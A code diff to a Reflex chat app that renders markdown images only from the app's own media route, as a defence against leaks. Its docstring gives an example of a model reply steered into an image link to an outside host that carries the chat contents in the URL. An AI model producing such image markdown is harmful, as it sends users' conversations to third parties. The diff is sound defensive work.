@@ -5,10 +5,38 @@ import reflex as rx
 from chat_app.services.views import MediaView, MessageView
 from chat_app.state.chat import EARLIER, ChatState
 
+# What react-markdown hands the `img` of the component map, read in the browser.
+_IMAGE_SRC = rx.Var('(props.src ?? "")').to(str)
+_IMAGE_ALT = rx.Var('(props.alt ?? "")').to(str)
+OWN_IMAGES = "/api/media/"  # the access-checked file route
+
+
+def _image_or_its_text(*_children) -> rx.Component:
+    """An image in a message is shown only from our own file route; any other shows its text.
+
+    A remote image is fetched by everyone who opens the chat: its server learns who reads a shared
+    chat, and a reply steered into writing `![](https://elsewhere/?q=<the chat>)` would carry the
+    chat away in the address. (The page's Content-Security-Policy refuses them too.)
+    """
+    return rx.el.span(
+        rx.cond(
+            _IMAGE_SRC.startswith(OWN_IMAGES),
+            rx.el.img(src=_IMAGE_SRC, alt=_IMAGE_ALT, loading="lazy", class_name="markdown-image"),
+            rx.el.span(
+                _IMAGE_ALT,
+                title="Images from other sites are not shown.",
+                class_name="markdown-image-text",
+                custom_attrs={"data-testid": "image-not-shown"},
+            ),
+        ),
+    )
+
 
 def _markdown(text) -> rx.Component:
     # use_raw=False: model output is shown as text, never interpreted as HTML.
-    return rx.markdown(text, use_raw=False, class_name="message-markdown")
+    return rx.markdown(
+        text, use_raw=False, class_name="message-markdown", component_map={"img": _image_or_its_text}
+    )
 
 
 def media_preview(item: MediaView) -> rx.Component:
